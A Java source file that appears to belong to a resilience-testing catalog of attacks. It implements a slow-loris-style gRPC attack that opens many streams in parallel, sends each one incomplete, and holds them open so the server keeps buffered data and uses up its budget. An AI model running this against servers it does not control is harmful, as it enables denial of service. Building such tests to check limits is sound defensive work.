package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.GrpcClient;
import dev.sluice.attacks.wire.Proto;
import java.io.IOException;
import java.util.Arrays;

/**
 * Begins calls and never ends them: half of them lack their last byte, the others only the mark
 * that there is no further message. What has come stays in the server meanwhile.
 */
final class UnfinishedCalls extends Attack {
  private static final int STREAMS = 16;

  private final String path;
  private final int requestBytes;
  private byte[] request = {};

  UnfinishedCalls(String name, Access access, String path, int requestBytes) {
    super(name, Family.BUDGETS, access, Bounds.of(100, 128, 32));
    this.path = path;
    this.requestBytes = requestBytes;
  }

  @Override
  void prepare() {
    boolean health = path.equals(Grpc.HEALTH_CHECK);
    Proto padding = new Proto().bytes(1, new byte[requestBytes]);
    Proto enqueue = new Proto().text(1, Target.TENANT + "none").message(2, padding);
    request = Grpc.message((health ? padding : enqueue).encode());
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.parallel(
        8,
        number -> {
          while (attempt.isRunning()) {
            try {
              begin(attempt, number);
            } catch (IOException cutOff) {
              attempt.cutOff();
            }
          }
        });
  }

  private void begin(Attempt attempt, int number) throws IOException, InterruptedException {
    String key = access() == Access.TENANT_KEY ? attempt.tenantKey(number) : attempt.key();
    byte[] part = Arrays.copyOf(request, request.length - 1);
    try (GrpcClient client = attempt.grpcClient(key)) {
      for (int i = 0; i < STREAMS; i++) {
        client.send(client.open(path), i % 2 == 0 ? part : request, false);
      }
      attempt.holdOn();
    }
  }
}
